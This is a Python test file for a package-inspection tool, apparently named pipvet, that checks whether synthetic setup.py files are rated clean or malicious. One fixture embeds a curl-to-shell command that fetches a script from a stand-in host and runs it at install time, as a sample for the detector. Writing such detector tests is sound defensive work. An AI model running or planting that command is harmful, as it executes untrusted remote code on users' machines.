"""Rules of the inspection engine on small synthetic sources: positive and negative cases."""

from __future__ import annotations

import textwrap

from pipvet.core.analysis.engine import analyze
from pipvet.core.analysis.model import Artifact, Member


def artifact(files: dict[str, str | bytes], name: str = "demo") -> Artifact:
    members = []
    for path, content in files.items():
        data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
        members.append(Member(path=f"{name}-1.0/{path}", size=len(data), data=data))
    return Artifact(
        filename=f"{name}-1.0.tar.gz",
        kind="sdist",
        name=name,
        version="1.0",
        members=tuple(members),
    )


def rules_of(files: dict[str, str | bytes]) -> set[str]:
    return {f.rule for f in analyze(artifact(files)).findings}


def verdict_of(files: dict[str, str | bytes]) -> str:
    return analyze(artifact(files)).verdict


HONEST_SETUP = """
    import subprocess
    from setuptools import setup
    version = subprocess.run(["git", "describe"], capture_output=True, text=True).stdout
    setup(name="demo", version=version or "1.0")
"""


def test_honest_setup_running_git_is_not_flagged() -> None:
    assert verdict_of({"setup.py": HONEST_SETUP}) in ("clean", "risky")


def test_setup_piping_curl_to_shell_is_malicious() -> None:
    src = """
        import os
        from setuptools import setup
        os.system("curl -s http://example.invalid/x.sh | sh")
        setup(name="demo")
    """
    result = analyze(artifact({"setup.py": src}))
    assert result.verdict == "malicious"
    assert "intent.shell-download-execute" in {f.rule for f in result.findings}
